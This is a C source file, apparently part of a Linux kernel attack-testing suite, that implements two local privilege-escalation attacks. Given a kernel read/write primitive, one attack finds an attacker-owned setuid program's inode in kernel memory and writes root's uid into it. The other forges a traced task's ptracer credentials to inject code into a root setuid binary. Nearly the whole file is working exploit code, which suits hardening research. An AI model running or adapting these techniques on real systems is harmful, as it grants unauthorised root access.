// SPDX-License-Identifier: GPL-2.0-only
/* Attacks on whom a program runs for: whose it is, and who may trace it. */
#include <fcntl.h>
#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"
#include "setuid.h"

/* ---- inode-owner: whose a program is, its inode says ---- */

#define OWN_PROGRAM	"/tmp/own-program"
#define OWN_MODE	(S_IFREG | 04755)
#define FILE_SIZE	256	/* of struct file, at most */

/* Begins with the mode. The owner is next, or behind flags and access lists. */
static uint64_t owner_in(uint64_t inode)
{
	uint32_t words[8];
	size_t i;

	if (!is_kernel_address(inode) || kread(inode, words, sizeof(words)) ||
	    (words[0] & 0xffff) != OWN_MODE)
		return 0;
	for (i = 1; i < sizeof(words) / sizeof(*words); i++)
		if (words[i] == ATTACKER_UID)
			return inode + i * sizeof(*words);
	return 0;
}

static uint64_t owner_by_file(uint64_t file)
{
	uint64_t words[FILE_SIZE / sizeof(uint64_t)], owner = 0;
	size_t i;

	if (!is_kernel_address(file) || kread(file, words, sizeof(words)))
		return 0;
	for (i = 0; i < sizeof(words) / sizeof(*words) && !owner; i++)
		owner = owner_in(words[i]);
	return owner;
}

/* By what a mapping of the file points to. */
static uint64_t find_owner(void)
{
	int fd = open(OWN_PROGRAM, O_RDONLY | O_CLOEXEC);
	void *map = mmap(NULL, PAGE_SIZE, PROT_READ, MAP_SHARED, fd, 0);
	uint64_t vma = map == MAP_FAILED ? 0 : find_vma(map), at, owner = 0;

	for (at = vma; at && at < vma + VMA_SIZE && !owner; at += sizeof(at))
		owner = owner_by_file(kread64(at));
	close(fd);
	return owner;
}

enum outcome inode_owner(void)
{
	uint32_t root = 0, own = ATTACKER_UID;
	uint64_t owner;
	int err, status;

	setuid_own_create(OWN_PROGRAM);
	owner = find_owner();
	if (!owner || setuid_run(OWN_PROGRAM) == IS_ROOT)
		return broken("no inode found, or %s is root's", OWN_PROGRAM);
	err = kwrite(owner, &root, sizeof(root));
	status = setuid_run(OWN_PROGRAM);
	kwrite(owner, &own, sizeof(own));
	unlink(OWN_PROGRAM);
	if (status != IS_ROOT)
		return lost("store gave %d, %s exits with %d", err, OWN_PROGRAM, status);
	return won("owner 0 written into the inode of an own setuid program: setuid(0), then getuid() gave uid=0");
}

/*
 * ---- ptracer-cred: who traces a program had these credentials, its task says ----
 *
 * Who is traced by root keeps what a setuid program gives.
 */

#define PTRACER_CRED	8	/* ahead of the pointer to the objective ones */

static void be_traced(void)
{
	ptrace(PTRACE_TRACEME, 0, NULL, NULL);
	raise(SIGSTOP);
	execl(SETUID_PROGRAM, SETUID_PROGRAM, (char *)NULL);
	_exit(1);
}

static bool stops(pid_t pid)
{
	int status;

	return waitpid(pid, &status, 0) == pid && WIFSTOPPED(status);
}

static bool poke(pid_t pid)
{
	uint64_t words[8] = { 0 };
	size_t size, i;
	const void *code = setuid_evil(&size);

	memcpy(words, code, size);
	for (i = 0; i < size; i += sizeof(*words))
		if (ptrace(PTRACE_POKETEXT, pid, SETUID_ENTRY + i, words[i / sizeof(*words)]))
			return false;
	return true;
}

/* Returns how the program ends, as wait() says it, or -1. */
static int trace_program(uint64_t forged)
{
	uint64_t slot, old;
	struct task task;
	int status = -1;
	bool poked;
	pid_t pid = fork();

	if (!pid)
		be_traced();
	if (!stops(pid) || ktask(pid, &task))
		return -1;
	slot = task.real_cred_slot - PTRACER_CRED;
	old = kread64(slot);
	if (forged)
		kwrite64(slot, forged);
	ptrace(PTRACE_CONT, pid, NULL, NULL);
	poked = stops(pid) && poke(pid);
	kwrite64(slot, old);
	ptrace(PTRACE_CONT, pid, NULL, NULL);
	waitpid(pid, &status, 0);
	return poked ? status : -1;
}

static bool is_root(int status)
{
	return WIFEXITED(status) && WEXITSTATUS(status) == IS_ROOT;
}

enum outcome ptracer_cred(void)
{
	uint64_t root = ksymbol("init_cred");
	int status = trace_program(0);

	if (!root || status < 0 || is_root(status))
		return broken("no program to trace, or it is root's in any case");
	status = trace_program(root);
	if (!is_root(status))
		return lost("a setuid program that was traced ended with %#x", status);
	return won("credentials of who traces turned to root's: a setuid program of root's ran the tracer's code, getuid() gave uid=0");
}
